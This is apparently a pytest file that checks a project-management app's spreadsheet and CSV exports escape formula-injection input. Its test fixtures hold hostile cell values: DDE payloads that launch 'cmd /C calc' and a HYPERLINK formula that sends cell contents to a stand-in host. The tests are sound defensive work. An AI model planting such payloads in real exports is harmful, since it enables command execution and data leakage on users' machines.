"""Formula injection: every text cell of every exported workbook and CSV passes the one formula guard
(core/exports/formula_guard.py). A project title, budget line, unit, supplier, document number, description or
payment note starting with = + - @ or a tab / carriage return stays text; the app's own sums stay formulas."""

from __future__ import annotations

import csv
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from projektu_vadiba.core.db import open_database
from projektu_vadiba.core.dto import BudgetLineInput, EventInput, ExpenseInput, PaymentInput, PersonInput
from projektu_vadiba.core.exports.formula_guard import DANGEROUS, guard, safe_cell
from projektu_vadiba.core.exports.people_export import event_table, write_csv, write_xlsx
from projektu_vadiba.core.models import FundingSource, PaymentKind
from projektu_vadiba.core.services import activities, attendance, finance, people, projects
from projektu_vadiba.core.services.money_summary import money_summary
from projektu_vadiba.reports.financial_xlsx import write_financial_xlsx
from tests.core.factories import project_input

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = {
    "title": '=HYPERLINK("http://x.example/?"&A1,"Klikšķini")',
    "line": "+cmd|' /C calc'!A0",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "document": "\r=1+2",
    "supplier": "=1+1",
    "description": "\t=2+5",
    "note": "-2+3+cmd|' /C calc'!A0",
    "given": "=Jānis",
    "surname": "@Bērziņš",
    "org": "-Biedrība",
}


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Any:
    db = open_database(f"sqlite:///{tmp_path_factory.mktemp('guards') / 'pv.sqlite'}")
    with db.session() as s:
        pid = projects.create_project(s, project_input(title=HOSTILE["title"])).id
        line = finance.create_budget_line(
            s,
            pid,
            BudgetLineInput("personnel", "1.1", HOSTILE["line"], {FundingSource.GRANT: Decimal("100.00")},
                            unit=HOSTILE["unit"]),
        ).id  # fmt: skip
        finance.add_expense(
            s,
            pid,
            ExpenseInput(date(2023, 4, 1), Decimal("10.00"), line, HOSTILE["document"], HOSTILE["supplier"],
                         HOSTILE["description"]),
        )  # fmt: skip
        finance.add_payment(
            s, pid, PaymentInput(PaymentKind.ADVANCE, date(2023, 3, 20), Decimal("50"), HOSTILE["note"])
        )
        event = activities.create_event(
            s, pid, EventInput(HOSTILE["title"], datetime(2023, 5, 4, 10), datetime(2023, 5, 4, 14))
        )
        person = people.create_person(s, PersonInput(HOSTILE["given"], HOSTILE["surname"], HOSTILE["org"]))
        attendance.register(s, event.id, person.id)
    yield db, pid, event.id
    db.close()


def _texts(path: Path) -> tuple[list[str], list[str]]:
    """(every text cell, every formula) of a workbook."""
    book = openpyxl.load_workbook(path)
    texts, formulas = [], []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


def _no_live_payload(texts: list[str], formulas: list[str], payloads: list[str]) -> None:
    assert not [t for t in texts if t.startswith(DANGEROUS)]
    for payload in payloads:
        assert not [f for f in formulas if payload.lstrip("\t\r=+-@") in f], payload
        assert any(payload.strip() in t for t in texts), payload  # still there, as text (forms trim spaces)


def test_financial_workbook_keeps_every_hostile_text_as_text(database: Any, tmp_path: Path) -> None:
    db, pid, _event = database
    with db.session() as s:
        summary = money_summary(s, pid)
    texts, formulas = _texts(write_financial_xlsx(summary, tmp_path / "finanses.xlsx"))
    payloads = [HOSTILE[k] for k in ("line", "unit", "document", "supplier", "description", "note")]
    _no_live_payload(texts, formulas, payloads)
    assert "'" + HOSTILE["supplier"] in texts and "'" + HOSTILE["note"] in texts
    assert any(HOSTILE["title"] in t for t in texts)  # the title row starts with it: guarded too
    assert len(formulas) > 20 and all(f.startswith("=") for f in formulas)  # the app's own sums stay live


def test_people_csv_and_xlsx_pass_the_same_guard(database: Any, tmp_path: Path) -> None:
    db, _pid, event_id = database
    with db.session() as s:
        table = event_table(s, event_id)
    write_xlsx(table, tmp_path / "saraksts.xlsx")
    write_csv(table, tmp_path / "saraksts.csv")
    texts, formulas = _texts(tmp_path / "saraksts.xlsx")
    assert formulas == []
    _no_live_payload(texts, formulas, [HOSTILE["given"], HOSTILE["surname"], HOSTILE["org"]])
    with (tmp_path / "saraksts.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f, delimiter=";") for c in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert "'" + HOSTILE["given"] in cells and "'" + HOSTILE["org"] in cells


def test_one_rule_for_text_and_values() -> None:
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@a", "\tb", "\rc", "Anna", None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\tb", "'\rc", "Anna", ""
    ]  # fmt: skip
    assert guard(Decimal("-5.00")) == Decimal("-5.00") and guard(-3) == -3 and guard(None) is None
    assert guard("-3") == "'-3"
